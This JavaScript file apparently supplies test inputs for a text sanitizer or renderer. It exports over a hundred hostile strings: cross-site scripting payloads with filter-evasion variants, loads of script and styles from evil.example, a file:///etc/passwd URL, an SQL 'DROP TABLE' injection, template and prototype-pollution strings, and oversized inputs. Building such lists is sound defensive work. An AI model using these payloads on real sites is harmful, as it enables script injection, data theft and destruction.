// Strings that a careless page would treat as something other than text.

const SCRIPTS = [
	'<script>PWN</script>', '<ScRiPt>PWN</sCrIpT>', '<script src=//evil.example/x.js></script>', '<script/x>PWN</script>',
	'"><script>PWN</script>', "'><script>PWN</script>", '</script><script>PWN</script>', '<scr<script>ipt>PWN</script>',
	'<script\x0c>PWN</script>', '<!--<script>-->PWN', '<![CDATA[<script>PWN</script>]]>', '<noscript><p title="</noscript><img src=x onerror=PWN>">',
];
const HANDLERS = [
	'<img src=x onerror=PWN>', '<img src=x onerror="PWN">', '<img/src=x/onerror=PWN>', '<IMG SRC=x OnErRoR=PWN>',
	'<img src="x` `<script>PWN</script>"` `>', '<svg onload=PWN>', '<svg/onload=PWN>', '<svg><script>PWN</script></svg>',
	'<svg><animate onbegin=PWN attributeName=x dur=1s>', '<svg><a xlink:href="javascript:PWN"><text>x</text></a></svg>',
	'<body onload=PWN>', '<input autofocus onfocus=PWN>', '<select autofocus onfocus=PWN>', '<textarea autofocus onfocus=PWN>',
	'<details open ontoggle=PWN>', '<video><source onerror=PWN>', '<audio src=x onerror=PWN>', '<marquee onstart=PWN>',
	'<div onpointerover=PWN>over</div>', '<style>@import "//evil.example/x.css";</style>', '<style onload=PWN></style>',
	'<link rel=stylesheet href=//evil.example/x.css>', '<object data="javascript:PWN"></object>', '<embed src="javascript:PWN">',
	'<iframe src="javascript:PWN"></iframe>', '<iframe srcdoc="<script>PWN</script>"></iframe>', '<frameset onload=PWN>',
	'<table background="javascript:PWN">', '<form action="javascript:PWN"><button>x</button></form>', '<button formaction="javascript:PWN">x</button>',
	'<math><mtext></form><form><mglyph><style></math><img src=x onerror=PWN>', '<template><img src=x onerror=PWN></template>',
	'<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example/">', '<x contenteditable onblur=PWN>x</x>',
	'<a href="javascript:PWN">x</a>', '<a href="//evil.example/" ping="//evil.example/">x</a>', '<isindex action="javascript:PWN">',
	'<dialog open onclose=PWN>', '<bdo dir=rtl><img src=x onerror=PWN></bdo>',
];
const ADDRESSES = [
	'javascript:PWN', 'JaVaScRiPt:PWN', 'java\tscript:PWN', ' javascript:PWN', 'javascript://example.org/%0aPWN', 'vbscript:PWN',
	'data:text/html,<script>PWN</script>', 'data:text/html;base64,PHNjcmlwdD5QV048L3NjcmlwdD4=', 'file:///etc/passwd', 'blob:x',
	'http://"onmouseover="PWN', "http://x'onclick='PWN", 'http://x<script>PWN</script>', 'https://example.org/"><img src=x onerror=PWN>',
	'https://user:pass@evil.example/', 'https://xn--pypal-4ve.example/', 'https://example.org\u202egpj.exe', 'https://example.org/\u0000x',
	'//evil.example/x', '\\\\evil.example\\x', 'http:evil.example', 'https:///evil.example', 'https://[::1', 'https://%00/', 'http://.',
];
const MARKS = [
	'**<b>PWN</b>**', '*<img src=x onerror=PWN>*', '`<script>PWN</script>`', '```html\n<script>PWN</script>\n```', '```"><img src=x onerror=PWN>\nx\n```',
	'> <img src=x onerror=PWN>', '[x](javascript:PWN)', '![x](//evil.example/x.png)', '<https://evil.example>', '@<img src=x onerror=PWN>',
	'@"><script>PWN</script>', ':<img src=x onerror=PWN>:', '**'.repeat(400), '_a'.repeat(2000), '`'.repeat(3000), '> '.repeat(1500), '*a '.repeat(2000),
	'@a'.repeat(2000), '```\n'.repeat(900), '[[[['.repeat(500),
];
const LETTERS = [
	'\u202e\u202etxet desrever', '\u2066\u2067x', 'Z\u0351\u036b\u0343\u036a\u0302'.repeat(60), '\u0000\u0001\u001b[2J', '\u200b\u200c\u200d\ufeff',
	'\ud83d\ude00'.repeat(500), '\ufdfd'.repeat(80), '{{constructor.constructor("PWN")()}}', '${PWN}', '<%= PWN %>', "'; DROP TABLE messages; --",
	'%3Cscript%3EPWN%3C/script%3E', '&lt;script&gt;PWN&lt;/script&gt;', '&#60;script&#62;PWN&#60;/script&#62;', '\\u003cscript\\u003ePWN', '__proto__',
	'constructor', 'toString', '<'.repeat(3000), '\n'.repeat(500), '"}]}</script>', ']]>', '-->', '/* PWN */', '\u2028PWN\u2029',
];

/** More than a hundred strings. */
export const HOSTILE = [...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...MARKS, ...LETTERS].map((text) => text.replaceAll('PWN', 'window.pwned=1'));
